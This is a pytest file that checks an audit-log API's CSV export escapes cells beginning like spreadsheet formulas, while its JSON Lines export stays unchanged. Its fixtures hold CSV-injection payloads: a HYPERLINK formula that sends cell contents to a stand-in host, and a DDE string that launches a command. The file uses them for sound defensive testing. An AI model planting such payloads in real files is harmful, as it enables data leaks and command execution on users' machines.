"""The CSV audit export is safe to open in a spreadsheet (OWASP's CSV-injection
defence: a cell that starts like a formula gets a leading single quote), while
JSON Lines stays exactly as recorded; on SQLite and Postgres."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from fastapi.testclient import TestClient

from api.audit_export import csv_cells
from bootstrap import build_api
from domain.values import Role
from projections.audit_log import COLUMNS
from service.settings import Settings
from support.api import Caller, ok, opening

BACKENDS = ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
BUYER = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
SELLER = "+seller"
KEY = "@SUM(1+1)*cmd|' /C calc'!A0"
REQUEST_ID = "-2+3"


@pytest.fixture(params=BACKENDS)
def backend(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def client(settings: Settings) -> Iterator[TestClient]:
    with TestClient(build_api(settings.model_copy(update={"in_process_workers": True}))) as c:
        yield c


def export(client: TestClient, fmt: str, position: str) -> Any:
    auditor = Caller(client, Role.AUDITOR, "aud-1")
    response = auditor.get(f"/v1/audit/export?format={fmt}", x_min_position=position)
    assert response.status_code == 200, response.text
    return response


def test_csv_cells_that_start_like_a_formula_get_a_leading_quote_and_jsonl_stays_exact(client: TestClient) -> None:
    buyer = Caller(client, Role.BUYER, BUYER)
    opened = buyer.post("/v1/disputes", opening(SELLER), idempotency_key=KEY, x_request_id=REQUEST_ID)
    dispute = ok(opened, 201)
    seller = Caller(client, Role.SELLER, SELLER)
    message = seller.post(f"/v1/disputes/{dispute['id']}/messages", {"body": "=1+1"}, idempotency_key="'quoted")
    position = ok(message, 201) and message.headers["X-Position"]

    rows = list(csv.DictReader(io.StringIO(export(client, "csv", position).text)))
    assert [(r["actor_id"], r["idempotency_key"]) for r in rows] == [("'" + BUYER, "'" + KEY), ("'+seller", "''quoted")]
    assert rows[0]["request_id"] == "'" + REQUEST_ID
    payloads = [json.loads(r["payload"]) for r in rows]  # a JSON object cell starts with "{": left alone
    assert (payloads[0]["seller_id"], payloads[1]["body"]) == (SELLER, "=1+1")

    entries = [json.loads(line) for line in export(client, "jsonl", position).text.splitlines()]
    assert [(e["actor"]["id"], e["idempotency_key"]) for e in entries] == [(BUYER, KEY), (SELLER, "'quoted")]
    assert entries[0]["request_id"] == REQUEST_ID


def test_every_formula_trigger_is_defused_and_one_stripped_quote_gives_the_value_back() -> None:
    values = ["=1", "+1", "-1", "@1", "\t1", "\r1", "'1", "plain", "1=1", "", None]
    row = {c: 1 for c in COLUMNS} | {"occurred_at": datetime(2026, 3, 2, 9, tzinfo=UTC), "payload": {}}
    cells = [csv_cells({**row, "actor_id": v, "request_id": v, "idempotency_key": v}) for v in values]
    picked = [(c[COLUMNS.index("actor_id")], c[COLUMNS.index("request_id")], c[COLUMNS.index("idempotency_key")])
              for c in cells]  # fmt: skip
    expected = ["'=1", "'+1", "'-1", "'@1", "'\t1", "'\r1", "''1", "plain", "1=1", "", None]
    assert picked == [(e, e, e) for e in expected]
    assert [c.removeprefix("'") if isinstance(c, str) else c for c, _, _ in picked] == values
    assert cells[0][COLUMNS.index("position")] == 1 and cells[0][-1] == "{}"
